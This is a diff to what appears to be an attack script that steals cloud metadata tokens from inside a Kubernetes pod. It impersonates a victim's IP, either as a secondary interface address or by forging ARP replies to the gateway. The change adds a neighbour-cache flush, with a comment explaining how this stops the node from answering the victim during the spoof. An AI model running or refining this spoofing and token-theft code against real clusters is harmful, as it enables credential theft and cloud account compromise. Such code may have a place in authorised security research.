@@ -5,7 +5,7 @@ can (CVE-2021-1677 class) and asks for a token from 169.254.169.254:80 with that
 
 Attacks (`--attack`):
   secondary-address  the victim's IP as a second address on eth0 (NET_ADMIN in the pod), the
-                     kernel's TCP bound to it; no ARP forged
+                     pod's neighbour cache flushed, the kernel's TCP bound to it; no ARP forged
   arp-poison         forged ARP (NET_RAW): "the victim's IP is at my MAC" to the bridge's gateway,
                      repeated while the request runs, and the kernel's TCP from the victim's IP
                      (added as in secondary-address)
@@ -154,6 +154,10 @@ def kernel_tcp(source: str, request: bytes, timeout: float) -> dict:
 def with_address(interface: str, address: str, action):
     subprocess.run(["ip", "addr", "add", f"{address}/32", "dev", interface], check=True,
                    capture_output=True, text=True)
+    # The pod forgets the gateway's MAC, so its kernel asks ARP for it from the claimed address
+    # at once (a stale entry would wait ~5 s before probing, and the node would answer the
+    # victim meanwhile).
+    subprocess.run(["ip", "neigh", "flush", "dev", interface], check=False, capture_output=True)
     try:
         return action()
     finally:
